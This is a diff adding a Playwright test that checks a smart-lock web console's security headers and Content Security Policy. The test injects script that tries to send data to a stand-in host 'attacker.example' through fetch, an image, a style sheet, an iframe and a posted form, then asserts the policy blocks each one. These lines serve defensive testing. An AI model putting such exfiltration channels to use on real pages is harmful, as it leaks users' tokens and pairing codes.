@@ -556,3 +556,61 @@ def test_an_unlock_from_the_console_is_confirmed_by_the_locks_name(env: dict[str
         expect(page.locator("#notice")).to_have_text("lock sent to Garden gate", timeout=15_000)
         browser.close()
     assert sent == ["unlock", "lock"] and len(asked) == 2, (sent, asked)
+
+
+
+#: kept by the page from its first script on: every request its security policy refused
+_VIOLATIONS = """window.violations = [];
+document.addEventListener('securitypolicyviolation',
+  (e) => window.violations.push(`${e.effectiveDirective} ${e.blockedURI}`));"""
+
+
+def test_the_console_reaches_no_origin_but_its_own_and_the_firebase_apis(env: dict[str, str], chromium: str) -> None:
+    """Attack run 105: the policy restricted scripts, plugins, <base> and framing only; text the page came to run or
+    markup it came to hold could send what it read (a token, a pairing code) anywhere by fetch, an image, a style
+    sheet or a form, and any frame it made could be given the microphone. Now nothing but the page's origin and the
+    Firebase APIs (locally the emulators), the microphone for the page alone, and the page opened by no other's
+    window. The page works under it: signing up, the live voice status and creating a lock refuse nothing."""
+    from playwright.sync_api import expect, sync_playwright
+
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
+        page = browser.new_page()
+        page.add_init_script(_VIOLATIONS)
+        answer = page.goto(env["LOCKWISE_CONSOLE_URL"])
+        assert answer is not None
+        headers = answer.headers
+        page.fill("#email", f"policy-{int(time.time() * 1000)}@example.com")
+        page.fill("#password", "correct horse battery")
+        page.click("#sign-up-button")
+        expect(page.locator("#voice-status")).to_have_text("not enrolled", timeout=15_000)
+        page.fill("#new-lock-name", "Porch")
+        page.click("#new-lock-form button[type=submit]")
+        expect(page.locator(".lock .pairing-code").first).not_to_be_empty(timeout=15_000)
+        expect(page.locator(".lock .online").first).to_have_text("offline", timeout=15_000)  # the live view
+        assert page.evaluate("window.violations") == []
+        page.evaluate(
+            """() => {
+              fetch('https://attacker.example/t').catch(() => {});
+              new Image().src = 'https://attacker.example/i';
+              const css = document.createElement('link');
+              css.rel = 'stylesheet';
+              css.href = 'https://attacker.example/s.css';
+              document.head.append(css);
+              const frame = document.createElement('iframe');
+              frame.src = 'https://attacker.example/f';
+              document.body.append(frame);
+              const form = document.createElement('form');
+              form.action = 'https://attacker.example/p';
+              form.method = 'post';
+              document.body.append(form);
+              form.submit();
+            }"""
+        )
+        page.wait_for_timeout(1000)
+        refused = {v.split(" ")[0] for v in page.evaluate("window.violations")}
+        browser.close()
+    assert {"connect-src", "img-src", "style-src-elem", "frame-src", "form-action"} <= refused, refused
+    assert "microphone=(self)" in headers["permissions-policy"]
+    assert headers["cross-origin-opener-policy"] == "same-origin"
+    assert headers["cache-control"] == "no-cache"  # app.js has no hashed name: a fixed one is taken at once
